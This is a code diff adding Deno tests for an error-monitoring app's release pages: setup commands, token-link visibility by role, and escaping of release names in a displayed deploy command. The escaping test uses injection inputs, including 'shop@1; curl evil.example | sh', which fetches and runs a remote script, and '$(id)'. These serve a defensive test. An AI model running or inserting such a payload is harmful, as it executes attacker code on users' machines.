@@ -236,3 +236,33 @@ Deno.test("what a release lacks is said in one place, and no panel is there to s
   const told = textOf((await site.page(`/detail?version=${encodeURIComponent(NEW)}`)).html);
   assert.match(told, /Not told yet A build tells it [^.]*\. Source maps sentry-cli/);
 });
+
+Deno.test("a project without releases shows commands for this server, itself and its organization, and where their token is made", async () => {
+  await using site = await shop({ baseUrl: "https://watch.example" });
+  const path = `/projects/${site.projectId}/releases`;
+  const { html } = await site.owner.get(path);
+  assert.match(
+    textOf(html),
+    /export SENTRY_URL=https:\/\/watch\.example SENTRY_ORG=acme SENTRY_PROJECT=shop\s+export SENTRY_AUTH_TOKEN=…\s+VERSION=shop@1\.4\.0/,
+  );
+  assert.match(html, /<a class="link" href="\/organizations\/acme\/settings\/tokens">/);
+  const { visitor } = await site.member("viewer");
+  const seen = (await visitor.get(path)).html;
+  assert.match(textOf(seen), /Members can make one\./);
+  assert.doesNotMatch(seen, /settings\/tokens"/);
+});
+
+Deno.test("commands for a release name it, but for one whose name a shell reads otherwise", async () => {
+  await using site = await shop();
+  const told = async (version: string) => {
+    await ensureRelease(site.services.sql, site.projectId, version);
+    const search = new URLSearchParams({ version });
+    return textOf(
+      (await site.owner.get(`/projects/${site.projectId}/releases/detail?${search}`)).html,
+    );
+  };
+  assert.match(await told("shop@1.2.0-rc+5"), /deploys new --release shop@1\.2\.0-rc\+5 -e prod/);
+  for (const version of ["shop@1; curl evil.example | sh", "$(id)", "--help"]) {
+    assert.match(await told(version), /deploys new --release VERSION -e prod/);
+  }
+});
